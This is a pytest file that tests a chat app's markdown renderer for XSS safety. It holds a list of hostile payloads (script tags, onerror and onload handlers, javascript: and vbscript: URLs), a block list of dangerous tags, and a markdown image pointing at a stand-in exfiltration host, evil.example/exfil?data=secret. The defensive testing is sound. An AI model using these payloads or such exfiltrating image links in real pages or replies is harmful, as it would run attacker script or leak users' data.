from html.parser import HTMLParser

import pytest

from lib.chat.markdown_html import literal, render_markdown, without_images

DANGEROUS_TAGS = {"script", "iframe", "svg", "object", "embed", "img", "style", "link", "meta"}


class _Audit(HTMLParser):
    """Collects what in an HTML fragment could run: tags, event handlers, script URLs."""

    def __init__(self) -> None:
        super().__init__()
        self.problems: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in DANGEROUS_TAGS:
            self.problems.append(f"<{tag}>")
        for name, value in attrs:
            if name.startswith("on"):
                self.problems.append(f"{tag} {name}=")
            if name in ("href", "src") and (value or "").strip().lower().startswith(("javascript:", "vbscript:", "data:")):
                self.problems.append(f"{tag} {name}={value}")


def audit(html: str) -> list[str]:
    parser = _Audit()
    parser.feed(html)
    return parser.problems

HOSTILE = [
    "<script>window.pwned=1</script>",
    '<img src=x onerror="window.pwned=2">',
    "[click](javascript:window.pwned=3)",
    '<iframe src="javascript:window.pwned=4"></iframe>',
    "<a href='javascript:alert(1)'>x</a>",
    "[x](JaVaScRiPt:alert(1))",
    "[x](vbscript:msgbox(1))",
    "![x](javascript:alert(1))",
    '<svg onload="alert(1)">',
]


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_markup_comes_out_inert(text: str) -> None:
    assert audit(render_markdown(text)) == []


def test_the_audit_itself_catches_live_markup() -> None:
    assert audit('<img src=x onerror="a()"><a href=" JavaScript:x">l</a><script></script>') == [
        "<img>", "img onerror=", "a href= JavaScript:x", "<script>",
    ]


def test_markdown_still_renders() -> None:
    html = render_markdown("**bold** and `code`\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n~~gone~~ [ok](https://example.com)")
    assert "<strong>bold</strong>" in html and "<code>code</code>" in html
    assert "<table>" in html and "<s>gone</s>" in html and 'href="https://example.com"' in html


def test_tags_are_shown_as_text() -> None:
    assert "&lt;script&gt;" in render_markdown("<script>x</script>")


def test_a_remote_image_in_a_reply_becomes_a_link_naming_its_host() -> None:
    html = render_markdown("look ![the chart](http://evil.example/exfil?data=secret) here")
    assert "<img" not in html
    assert 'href="http://evil.example/exfil?data=secret"' in html and "image: the chart (evil.example)" in html
    assert "noreferrer" in html


def test_images_are_defanged_for_streamlits_renderer_but_code_is_left_as_typed() -> None:
    text = (
        "see ![x](http://evil.example/a.png) and `![k](http://code.example/k)`\n"
        "![ref][1]\n\n[1]: http://ref.example/r.png\n"
        "```\n![c](http://fenced.example/c)\n```"
    )
    out = without_images(text)
    assert "[image: x (evil.example)](http://evil.example/a.png)" in out
    assert "`![k](http://code.example/k)`" in out and "![c](http://fenced.example/c)" in out
    assert "\\![ref][1]" in out
    rendered = render_markdown(out)
    assert "<img" not in rendered.replace("&lt;img", "")


def test_literal_text_shows_as_typed() -> None:
    assert literal("![x](http://e) **b**") == "\\!\\[x\\]\\(http://e\\) \\*\\*b\\*\\*"
